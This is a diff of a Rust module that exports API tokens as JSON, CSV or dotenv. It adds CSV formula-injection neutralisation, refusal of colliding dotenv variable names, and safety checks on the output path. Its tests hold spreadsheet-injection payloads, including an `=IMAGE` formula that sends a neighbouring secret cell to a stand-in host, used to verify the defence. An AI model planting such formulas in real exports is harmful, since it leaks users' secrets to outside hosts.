@@ -6,7 +6,17 @@
 //! (docker compose, python-dotenv, Node's dotenv) take every character literally, `$(...)` and
 //! backquotes included. What single quotes cannot hold safely — a `'`, a `\`, a line break or
 //! any other control character — is refused rather than escaped: no escaping is read the same
-//! way by all of them, and a real token never holds such characters.
+//! way by all of them, and a real token never holds such characters. A variable is named
+//! `LOGZIO_TOKEN_<ACCOUNT>_<NAME>`, the name upper-cased with anything but ASCII letters and
+//! digits made `_`; two token names of one account that give the same variable (`ci-deploy`,
+//! `ci_deploy`, `CI.Deploy`) are refused, naming both, rather than set one variable twice.
+//!
+//! CSV is opened by spreadsheets, which run a cell that begins with `=`, `+`, `-`, `@`, a tab
+//! or a carriage return as a formula (one that fetches a URL can send the secret in the next
+//! cell away). Following OWASP's rule, such a token name is written with a `'` before it (a
+//! spreadsheet shows the name without it; a program reading the CSV sees the `'`). A secret
+//! cannot be changed that way, so a secret that begins like a formula is refused (a real
+//! token is a UUID, which never does).
 //!
 //! JSON is also what `import --from` reads back: each row carries, under `superseded`, the
 //! tokens its name replaced (recreated or rotated) with what the results and secrets files know
@@ -16,9 +26,9 @@
 use serde::Deserialize;
 use zeroize::Zeroizing;
 
-use super::TokenKey;
 use super::results::{SupersededToken, TokenStatus};
 use super::secrets::SupersededSecret;
+use crate::key::TokenKey;
 use crate::secret::Secret;
 
 /// The export formats.
@@ -175,16 +185,102 @@ pub fn parse_json(path: &std::path::Path, bytes: &[u8]) -> Result<Vec<ExportedTo
     })
 }
 
-/// A secret that cannot be written in the asked format.
+/// What cannot be written in the asked format.
 #[derive(Debug, thiserror::Error)]
-#[error(
-    "the secret of {key} cannot be written safely as dotenv: {why}\n  = help: export it as --format json or csv, which quote every character"
-)]
-pub struct ExportError {
-    /// Which token.
-    pub key: TokenKey,
-    /// What is in the way (never the secret itself).
-    pub why: &'static str,
+pub enum ExportError {
+    /// A secret that cannot be written safely as dotenv.
+    #[error(
+        "the secret of {key} cannot be written safely as dotenv: {why}\n  = help: export it as --format json or csv, which quote every character"
+    )]
+    Dotenv {
+        /// Which token.
+        key: TokenKey,
+        /// What is in the way (never the secret itself).
+        why: &'static str,
+    },
+    /// A secret that a spreadsheet would read as a formula; unlike a name, it cannot be
+    /// neutralised (a `'` before it would change the secret).
+    #[error(
+        "the secret of {key} begins with a character that makes a spreadsheet cell a formula (= + - @, a tab or a carriage return), so it is not written as CSV\n  = help: export it as --format json"
+    )]
+    CsvFormula {
+        /// Which token.
+        key: TokenKey,
+    },
+    /// Two tokens of one account whose names map to one dotenv variable name: the file would
+    /// set that variable twice, and a reader keeps one secret or the other.
+    #[error(
+        "tokens {first:?} and {second:?} of account {account_id} would both be exported as {variable}\n  = help: dotenv variable names keep only letters and digits (upper-cased), so these names cannot be told apart; rename one of the tokens in the manifest, or export as --format json or csv, which keep names as they are"
+    )]
+    DotenvCollision {
+        /// The account.
+        account_id: u32,
+        /// The name exported first.
+        first: String,
+        /// The name that maps to the same variable.
+        second: String,
+        /// The variable both map to.
+        variable: String,
+    },
+}
+
+/// Checks the place an export is to be written (`--out`), before anything is rendered: not
+/// through a symlink, and not in a directory that another user can write without the sticky
+/// bit (nor under one: they could swap the file, or the directory, for theirs). The write
+/// itself then creates the file 0600 and never follows a link.
+pub fn check_target(path: &std::path::Path) -> Result<(), super::StateError> {
+    use crate::fs::Fs as _;
+    let fs = crate::fs::RealFs;
+    let unsafe_ = |path: &std::path::Path, reason: String| super::StateError::Unsafe {
+        path: path.to_path_buf(),
+        reason,
+    };
+    if fs.symlink_metadata(path).is_ok_and(|m| m.is_symlink()) {
+        return Err(unsafe_(
+            path,
+            "it is a symbolic link, which is never written through; pass --out the path of a regular file (or a new one)".into(),
+        ));
+    }
+    // A directory that does not exist is reported by the write.
+    let Ok(dir) = fs.canonicalize(crate::fs::atomic::parent_dir(path)) else {
+        return Ok(());
+    };
+    let me = crate::fs::trust::euid();
+    let my_group = rustix::process::getegid().as_raw();
+    for d in dir.ancestors() {
+        let Ok(meta) = fs.metadata(d) else {
+            continue;
+        };
+        let mode = meta.mode & 0o7777;
+        let sticky = mode & 0o1000 != 0;
+        let d_ = d.display();
+        let why = if meta.uid != me && meta.uid != 0 {
+            Some(format!(
+                "directory {d_} belongs to another user (uid {})",
+                meta.uid
+            ))
+        } else if mode & 0o002 != 0 && !sticky {
+            Some(format!(
+                "directory {d_} has mode {mode:04o}: every user can write it and it is not sticky"
+            ))
+        } else if mode & 0o020 != 0 && !sticky && meta.gid != my_group {
+            Some(format!(
+                "directory {d_} has mode {mode:04o}: the users of group {} can write it and it is not sticky",
+                meta.gid
+            ))
+        } else {
+            None
+        };
+        if let Some(why) = why {
+            return Err(unsafe_(
+                path,
+                format!(
+                    "{why}, so they could replace the file with theirs once it is written; pass --out a path in a directory only you can write"
+                ),
+            ));
+        }
+    }
+    Ok(())
 }
 
 /// Renders `rows`; the text holds secrets and is zeroed when dropped.
@@ -219,25 +315,40 @@ pub fn render(format: Format, rows: &[Row<'_>]) -> Result<Zeroizing<String>, Exp
         Format::Csv => {
             t.push_str("account_id,token_name,token_id,token\n");
             for r in rows {
+                if starts_formula(r.token.expose()) {
+                    return Err(ExportError::CsvFormula { key: r.key.clone() });
+                }
                 t.push_str(&format!(
                     "{},{},{},{}\n",
                     r.key.account_id,
-                    csv_field(&r.key.token_name),
+                    csv_field(&csv_text(&r.key.token_name)),
                     r.token_id,
                     csv_field(r.token.expose())
                 ));
             }
         }
         Format::Dotenv => {
+            let mut names: std::collections::HashMap<String, &TokenKey> =
+                std::collections::HashMap::new();
             for r in rows {
                 let value = r.token.expose();
                 if let Some(why) = dotenv_refusal(value) {
-                    return Err(ExportError {
+                    return Err(ExportError::Dotenv {
                         key: r.key.clone(),
                         why,
                     });
                 }
-                t.push_str(&format!("{}='{value}'\n", dotenv_name(&r.key)));
+                let variable = dotenv_name(&r.key);
+                if let Some(first) = names.get(&variable) {
+                    return Err(ExportError::DotenvCollision {
+                        account_id: r.key.account_id,
+                        first: first.token_name.clone(),
+                        second: r.key.token_name.clone(),
+                        variable,
+                    });
+                }
+                t.push_str(&format!("{variable}='{value}'\n"));
+                names.insert(variable, &r.key);
             }
         }
     }
@@ -280,6 +391,22 @@ fn dotenv_refusal(value: &str) -> Option<&'static str> {
     }
 }
 
+/// Whether a spreadsheet (Excel, LibreOffice, Google Sheets) reads a cell beginning like `s`
+/// as a formula: OWASP's list, `=`, `+`, `-`, `@`, a tab or a carriage return.
+fn starts_formula(s: &str) -> bool {
+    s.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+/// A text cell a spreadsheet shows as text: one that would be read as a formula gets a `'`
+/// before it (OWASP's CSV-injection rule; a spreadsheet shows the text without the `'`).
+fn csv_text(s: &str) -> std::borrow::Cow<'_, str> {
+    if starts_formula(s) {
+        std::borrow::Cow::Owned(format!("'{s}"))
+    } else {
+        std::borrow::Cow::Borrowed(s)
+    }
+}
+
 fn csv_field(s: &str) -> String {
     if s.contains([',', '"', '\n', '\r']) {
         format!("\"{}\"", s.replace('"', "\"\""))
@@ -307,6 +434,7 @@ pub fn dotenv_name(k: &TokenKey) -> String {
 
 #[cfg(test)]
 mod tests {
+    #![allow(clippy::disallowed_methods)] // tests set up real files, clocks and seeds
     #![allow(clippy::unwrap_used)]
     use super::*;
 
@@ -361,6 +489,76 @@ mod tests {
             // JSON and CSV quote anything.
             assert!(render(Format::Json, &[row("ci", &s)]).is_ok());
         }
+    }
+
+    /// OWASP's CSV-injection rule: a name that a spreadsheet would run as a formula (next to
+    /// the secret's cell, `=IMAGE("https://x/?"&D2)` sends it away) is made text with a `'`; a
+    /// secret cannot be changed, so one that begins like a formula is refused.
+    #[test]
+    fn csv_cells_that_a_spreadsheet_would_run_are_neutralised() {
+        let s = Secret::new("c498fbc3-a3ac-4676-ad09-689854b5cbbd");
+        let names = [
+            "=IMAGE(\"https://x/?\"&D2)",
+            "+1",
+            "-2+3",
+            "@SUM(A1)",
+            "\tx",
+            "\rx",
+        ];
+        let rows: Vec<Row<'_>> = names.iter().map(|n| row(n, &s)).collect();
+        let text = render(Format::Csv, &rows).unwrap();
+        let cells: Vec<&str> = text
+            .lines()
+            .skip(1)
+            .map(|l| l.split(',').nth(1).unwrap())
+            .collect();
+        assert_eq!(
+            cells,
+            [
+                "\"'=IMAGE(\"\"https://x/?\"\"&D2)\"",
+                "'+1",
+                "'-2+3",
+                "'@SUM(A1)",
+                "'\tx",
+                // A carriage return makes the cell quoted as well.
+                "\"'\rx\"",
+            ]
+        );
+        // Names that begin otherwise are written as they are.
+        let text = render(Format::Csv, &[row("ci=1", &s)]).unwrap();
+        assert!(text.contains(",ci=1,"), "{}", &*text);
+        for secret in ["=HYPERLINK(\"x\")", "+x", "-x", "@x", "\tx", "\rx"] {
+            let bad = Secret::new(secret);
+            let e = render(Format::Csv, &[row("ci", &bad)])
+                .unwrap_err()
+                .to_string();
+            assert!(e.contains("formula") && !e.contains(secret), "{e}");
+        }
+    }
+
+    /// Names that differ only in what a variable name cannot hold would set one variable
+    /// twice with different secrets: refused, naming both.
+    #[test]
+    fn dotenv_refuses_two_names_that_map_to_one_variable() {
+        let (a, b) = (Secret::new("secret-a"), Secret::new("secret-b"));
+        for (x, y) in [
+            ("ci-deploy", "ci_deploy"),
+            ("ci_deploy", "CI.Deploy"),
+            ("cié", "ci€"),
+        ] {
+            let e = render(Format::Dotenv, &[row(x, &a), row(y, &b)]).unwrap_err();
+            let msg = e.to_string();
+            assert!(matches!(e, ExportError::DotenvCollision { .. }), "{msg}");
+            assert!(
+                msg.contains(&format!("{x:?}")) && msg.contains(&format!("{y:?}")),
+                "{msg}"
+            );
+            assert!(!msg.contains("secret-"), "{msg}");
+        }
+        // One name in two accounts is two variables.
+        let mut other = row("ci-deploy", &b);
+        other.key.account_id = 8;
+        assert!(render(Format::Dotenv, &[row("ci-deploy", &a), other]).is_ok());
     }
 
     #[test]
